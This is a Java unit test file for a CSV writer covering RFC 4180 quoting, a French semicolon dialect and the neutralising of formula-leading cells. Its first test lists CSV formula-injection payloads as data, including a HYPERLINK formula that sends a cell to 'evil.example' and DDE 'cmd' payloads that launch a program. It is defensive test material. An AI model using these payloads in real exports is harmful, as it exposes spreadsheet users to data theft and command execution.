package fr.metrograph.csv;

import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class CsvWriterTests {

	@ParameterizedTest
	@ValueSource(strings = { "=1+2", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")", "+33 1 23",
			"-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "  =1+2", "\uFF1D1+2", "-",
			"+", "@" })
	void putsAQuoteInFrontOfEveryFormulaLeadingCell(String cell) {
		assertThat(CsvCells.isFormulaLeading(cell)).isTrue();
		assertThat(CsvCells.neutralise(cell)).isEqualTo("'" + cell);
	}

	@ParameterizedTest
	@ValueSource(strings = { "Brest Métropole", "-3", "+1.5", "2e-3", "-0,25", "", "a=b", "Jean-Pierre", "1 + 1" })
	void leavesOrdinaryTextAndPlainNumbersAlone(String cell) {
		assertThat(CsvCells.isFormulaLeading(cell)).isFalse();
		assertThat(CsvCells.neutralise(cell)).isEqualTo(cell);
	}

	@Test
	void writesRfc4180QuotingOnlyWhereNeededWithCrlfRows() {
		String text = CsvWriter.write(CsvDialect.RFC_4180, List.of("nom", "valeur"), List.of(List.of("a, \"b\"", 1),
				Arrays.asList(null, 2.5), List.of("deux\nlignes", " espace "), List.of("=1+2", -4L)));
		assertThat(text).isEqualTo(
				"nom,valeur\r\n\"a, \"\"b\"\"\",1\r\n,2.5\r\n\"deux\nlignes\",\" espace \"\r\n" + "'=1+2,-4\r\n");
	}

	@Test
	void neutralisesAFormulaEvenInsideAQuotedCell() {
		String text = CsvWriter.write(CsvDialect.RFC_4180, List.of("x"), List.of(List.of("=A1,\"B\"")));
		assertThat(text).isEqualTo("x\r\n\"'=A1,\"\"B\"\"\"\r\n");
	}

	@Test
	void writesTheFrenchSpreadsheetDialectWithSemicolonsDecimalCommasAndAByteOrderMark() {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (CsvWriter csv = CsvWriter.utf8(bytes, CsvDialect.TABLEUR)) {
			csv.row("métropole", "poids", "note");
			csv.row("Aix; Marseille", 0.5, new BigDecimal("1.25"));
			csv.row("@moi", 3, "=2*3");
		}
		byte[] out = bytes.toByteArray();
		assertThat(Arrays.copyOf(out, 3)).containsExactly(0xEF, 0xBB, 0xBF);
		assertThat(new String(out, 3, out.length - 3, StandardCharsets.UTF_8))
			.isEqualTo("métropole;poids;note\r\n\"Aix; Marseille\";0,5;1,25\r\n'@moi;3;'=2*3\r\n");
	}

	@Test
	void choosesTheDialectFromTheRequestParameterAndRefusesUnknownOnesInFrench() {
		assertThat(CsvDialect.fromParameter(null)).isEqualTo(CsvDialect.RFC_4180);
		assertThat(CsvDialect.fromParameter(" Tableur ")).isEqualTo(CsvDialect.TABLEUR);
		assertThat(CsvDialect.fromParameter("rfc4180")).isEqualTo(CsvDialect.RFC_4180);
		assertThatThrownBy(() -> CsvDialect.fromParameter("excel")).isInstanceOf(IllegalArgumentException.class)
			.hasMessageContaining("Dialecte CSV inconnu « excel »")
			.hasMessageContaining("tableur");
	}

}
